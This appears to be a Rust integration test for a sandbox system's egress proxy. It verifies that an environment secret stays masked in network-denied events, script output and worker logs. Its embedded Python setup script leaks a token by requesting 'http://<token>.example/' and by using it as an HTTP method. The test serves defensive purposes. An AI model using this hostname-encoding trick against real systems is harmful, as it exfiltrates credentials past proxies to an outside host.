//! An environment's secrets leave its setup phase masked wherever that
//! phase's doings surface (issue 34, item 4): not only the setup script's
//! output, but the egress proxy's decisions too, which a script (or a
//! package's install script) controls: requesting `http://$TOKEN.example/`
//! names the token as a host. Those decisions become `network.denied`
//! events and worker log lines. Real Postgres, real Docker, the real proxy;
//! nothing leaves the machine (the names are refused before any lookup).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;
use std::time::Duration;

use kiln_protocol::egress::{EgressMode, EgressPolicy, HostRule};
use kiln_protocol::{CreateRun, EventBody, RunStatus};
use kiln_scripted_model::Reply;
use kiln_store::secrets::SecretsKey;
use kiln_tests::logs::Logs;
use kiln_tests::{Options, TestApp, kinds, outcome, pick, worker_config};
use kiln_worker::ProviderKind;
use kiln_worker::egress::EgressSettings;
use serde_json::json;

const KEY_HEX: &str = "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0";
/// Mixed case, as tokens are: the proxy lower-cases host names, so the
/// value comes back other than it was written.
const SECRET: &str = "Kiln5ecretT0kenXq42";

/// Asks the proxy for the token as a host name, and as a method, and
/// prints what the proxy answered.
const SETUP: &str = r#"python3 - <<'PY'
import os, urllib.request, urllib.error
token = os.environ['TOKEN']
for url, method in [('http://%s.example/' % token, 'GET'), ('http://index.test/', token)]:
    try:
        urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=20)
        print('reached')
    except urllib.error.HTTPError as e:
        print('HTTP %d %s' % (e.code, e.read().decode().strip()))
PY"#;

#[tokio::test]
async fn a_secret_setup_requests_as_a_host_name_is_masked_in_events_and_logs() {
    // Everything `kiln` would log with `RUST_LOG=trace`.
    let logs = Logs::capture_as_kiln("trace");
    let key = || Some(Arc::new(SecretsKey::from_hex(KEY_HEX).unwrap()));
    let mut options = Options { script: vec![Reply::text("done")], worker: false, ..Default::default() };
    options.api.secrets_key = key();
    let app = TestApp::spawn(options).await;
    let mut config = worker_config(ProviderKind::OpenAi, Duration::from_secs(10));
    config.secrets_key = key();
    // `index.test` is allowed for GET alone, so the second request is
    // refused for its method, which the event names.
    let index = HostRule { methods: Some(vec!["GET".into()]), ..HostRule::host("index.test", vec![80]) };
    config.sandbox.egress = Arc::new(EgressSettings {
        deployment: EgressPolicy { mode: EgressMode::Allowlist, allow: Some(vec![index]) },
        ..EgressSettings::default()
    });
    app.start_worker(config).await;
    let environment = json!({
        "name": "leaky",
        "secrets": {"TOKEN": SECRET},
        "setup_script": SETUP,
        "setup_sandbox": {"egress": {"mode": "allowlist", "allow": [{"host": "index.test", "ports": [80], "methods": ["GET"]}]}},
    });
    let (status, body) = app.post_json("alice", "/v1/environments", environment).await;
    assert_eq!(status, 201, "{body}");

    let id = app.submit("alice", CreateRun { environment: Some("leaky".into()), ..CreateRun::new("x") }).await.id;
    let events = app.events("alice", id).await;
    assert_eq!(outcome(&events), Some(RunStatus::Succeeded), "{:?}", kinds(&events));
    let lower = SECRET.to_ascii_lowercase();

    // Both requests were refused, and the events say so, masked.
    let denied: Vec<_> = pick!(&events, EventBody::NetworkDenied { host, method, rule, .. } =>
        (host.clone(), method.clone(), rule.clone()))
    .collect();
    assert_eq!(denied.len(), 2, "{denied:?}");
    assert_eq!(denied[0].0, "[secret].example", "{denied:?}");
    assert_eq!(denied[0].2, "allowlist: no rule for [secret].example:80", "{denied:?}");
    assert_eq!((denied[1].0.as_str(), denied[1].1.as_deref()), ("index.test", Some("[secret]")), "{denied:?}");
    // The script's output holds the proxy's answer, the host lower-cased: masked too.
    let output: String = pick!(&events, EventBody::EnvironmentOutput { text, .. } => text.clone()).collect();
    assert!(output.contains("refused [secret].example:80"), "{output}");
    // Nowhere in the run's stream, in any case.
    for event in app.stored_events(id).await {
        let json = serde_json::to_string(&event.body).unwrap();
        assert!(!json.contains(SECRET) && !json.contains(&lower), "an event holds the secret: {json}");
    }

    // The worker's log lines of the refusals, masked; and no other line
    // (the Docker client's requests carry the setup exec's environment:
    // never logged).
    let log = logs.text();
    assert!(log.contains("egress denied") && log.contains("[secret].example"), "the refusals were not logged: {log}");
    let leaks: Vec<&str> = log.lines().filter(|l| l.contains(SECRET) || l.contains(&lower)).collect();
    assert!(leaks.is_empty(), "the worker's log holds the secret: {leaks:#?}");

    let docker = bollard::Docker::connect_with_local_defaults().unwrap();
    for key in pick!(&events, EventBody::EnvironmentStarted { cache_key, .. } => cache_key.clone()) {
        let options = bollard::query_parameters::RemoveImageOptionsBuilder::new().force(true).build();
        let _ = docker.remove_image(&format!("kiln-env:{key}"), Some(options), None).await;
    }
}
